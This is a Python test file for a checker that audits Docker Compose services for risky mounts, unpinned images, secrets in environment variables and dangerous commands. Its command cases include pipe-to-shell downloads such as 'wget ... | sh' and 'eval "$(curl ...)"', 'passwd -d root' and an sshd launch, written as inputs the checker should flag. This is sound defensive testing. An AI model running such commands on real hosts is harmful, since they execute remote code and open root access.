"""What services let in: the rules that the corpus in `vectors/compose` does not show by itself."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fuzzing import fuzzed
from teehee.evidence import services

IMAGE = "example/agent@sha256:" + "5a" * 32


def codes(**service: Any) -> list[str]:
    """The codes of one service with a pinned image, and these keys."""
    return [code for code, _, _ in services.check({"services": {"agent": {"image": IMAGE, **service}}})]


def mounted(*paths: str) -> list[str]:
    return codes(volumes=[f"{path}:/x" for path in paths])


def program(script: str) -> list[str]:
    return sorted({code for code, _, _ in services.program("here", script)})


def test_a_plain_service_opens_nothing() -> None:
    harmless = {"restart": "always", "ports": ["80:80"], "cap_add": ["NET_BIND_SERVICE"], "tmpfs": "/tmp"}

    assert codes(**harmless, security_opt=["no-new-privileges:true"], logging={"driver": "json-file"}) == []


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("/run/dstack.sock", []),
        ("/var/run/tappd.sock", []),
        ("/run/dstack", ["host-mount"]),
        ("/run/docker.sock", ["docker-socket"]),
        ("/var/run/containerd/containerd.sock", ["docker-socket"]),
        ("/run", ["docker-socket", "sidecar-reads-others"]),
        ("/var/lib", ["sidecar-reads-others"]),
        ("/var/lib/docker/volumes/memory/_data", ["sidecar-reads-others"]),
        ("/proc/1/root", ["sidecar-reads-others"]),
        ("/dstack/.host-shared", ["user-config"]),
        ("/tapp", ["user-config"]),
        ("/opt", ["host-mount"]),
        ("/var/library", ["host-mount"]),
    ],
)
def test_a_mount_is_judged_by_what_it_holds_and_where_it_lies(path: str, found: list[str]) -> None:
    assert mounted(path) == found


def test_the_second_holder_of_the_socket_is_found_by_any_path() -> None:
    for path in ("/run/dstack.sock", "/var/run", "/run/dstack", "/"):
        holders = {name: {"image": IMAGE, "volumes": [f"{path}:/s"]} for name in ("agent", "web")}
        assert ("second-dstack-socket", "services", "agent, web") in list(services.check({"services": holders}))


@pytest.mark.parametrize(
    "image", ["agent", "agent:1.2", "agent@sha256:5a", f"{IMAGE[:-1]}G", f"{IMAGE}\n", " " + IMAGE, IMAGE.upper(), ""]
)
def test_an_image_is_pinned_by_a_whole_digest_only(image: str) -> None:
    assert "unpinned-image" in codes(image=image)


@pytest.mark.parametrize(
    ("name", "value", "found"),
    [
        ("API_KEY", "hunter2hunter2", True),
        ("db_password", "correct horse", True),
        ("TELEGRAM_BOT_TOKEN", "pa$$word-pa$$word", True),
        ("DATABASE", "postgres://a:b@c", False),
        ("API_KEY", "${API_KEY}", False),
        ("API_KEY", "", False),
        ("API_KEY_FILE", "/run/secrets/key", False),
        ("MAX_TOKENS", "4096", False),
        ("TOKEN_ADDRESS", "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913", False),
        ("SECRET_MODE", "true", False),
        ("ACCESS_KEY_URL", "https://keys.example/a", False),
    ],
)
def test_a_secret_is_known_by_its_name(name: str, value: str, found: bool) -> None:
    assert ("secret-in-compose" in codes(environment={name: value})) is found
    assert ("secret-in-compose" in codes(environment=[f"{name}={value}"])) is found


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("curl -fsS https://a.example/x -o /tmp/x", []),
        ("curl -s --unix-socket /var/run/dstack.sock http://d/Info | jq -j .app_id", []),
        ("wget -qO- https://a.example/x|sh", ["remote-script"]),
        ("curl https://a.example/x | tee /tmp/x | sudo bash", ["remote-script"]),
        ("sh | curl https://a.example/x", []),
        ("wget -qO- https://a.example/x | sh", ["remote-script"]),
        ("bash <(curl https://a.example/x)", ["remote-script"]),
        ('eval "$(curl https://a.example/x)"', ["remote-script"]),
        ("docker image prune -af", []),
        ("docker run x@sha256:" + "0" * 64, []),
        ("docker run x", ["script-container"]),
        ("true && nerdctl --namespace a run x", ["script-container"]),
        ("pip --quiet install x", ["fetches-code"]),
        ("passwd -d root", ["root-password"]),
        ("/usr/sbin/sshd -D", ["remote-shell", "ssh-access"]),
        ("echo done", []),
    ],
)
def test_commands_are_judged_by_what_they_run(script: str, found: list[str]) -> None:
    assert program(script) == found


def test_a_document_without_services_is_not_a_clean_one() -> None:
    nothing: list[Any] = [None, "x", [], {}, {"services": None}, {"services": []}, {"services": {}}]
    for document in nothing:
        assert [code for code, _, _ in services.check(document)] == ["unreadable-compose"]


def test_a_service_that_is_no_object_names_no_image() -> None:
    assert [code for code, _, _ in services.check({"services": {"agent": None}})] == ["no-image"]


VALUES = st.recursive(
    st.none() | st.text(max_size=6) | st.sampled_from(["host", "/", "/run", "true", "${X}", IMAGE]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)
KEYS = sorted(services._LOOKED_AT | {"restart", "x-note", "provider"})


@fuzzed()
@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4), VALUES, VALUES)
def test_any_service_is_judged(service: dict[str, Any], volumes: Any, declared: Any) -> None:
    both: dict[str, Any] = {"configs": declared, "secrets": declared, "volumes": volumes}

    for code, where, _ in services.check({"services": {"a": service, "b": service, "c": volumes}, **both}):
        assert code
        assert where
